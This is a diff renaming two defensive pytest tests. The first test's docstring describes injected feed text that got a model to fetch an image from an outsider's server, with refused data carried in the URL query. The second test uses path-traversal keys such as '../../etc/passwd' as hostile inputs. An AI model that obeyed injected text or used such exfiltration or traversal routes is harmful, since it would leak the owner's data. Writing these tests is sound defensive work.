@@ -81,7 +81,7 @@ def test_a_picture_is_fetched_once_and_kept_with_its_facts(fleet: Fleet, server:
     assert events(fleet) == ["media.kept"]
 
 
-def test_a_model_that_was_talked_into_an_address_tells_nobody_what_it_knows(fleet: Fleet) -> None:
+def test_a_model_cannot_leak_data_through_an_address_that_it_was_talked_into(fleet: Fleet) -> None:
     """Symptom: strangers' words in a feed had a draft's picture fetched from their server, before anybody looked."""
     with pytest.raises(ForbiddenAddress, match="is none of the hosts"):
         keep_picture(fleet.deps, "https://theirs.example/p.png?d=what+the+owner+refused")
@@ -332,7 +332,7 @@ def test_what_is_known_can_be_found_without_asking_for_it(db: Database) -> None:
 
 
 @pytest.mark.parametrize("key", ["../../etc/passwd", "ab/cd", "", f"ab/{'a' * 64}.png", f"aa/{'a' * 64}.svg"])
-def test_nobody_reads_another_file_by_a_key(fleet: Fleet, key: str) -> None:
+def test_a_key_reads_no_other_file(fleet: Fleet, key: str) -> None:
     for ask in (media.picture_bytes, media.address_of):
         with pytest.raises(InvalidInput):
             ask(fleet.deps, key)
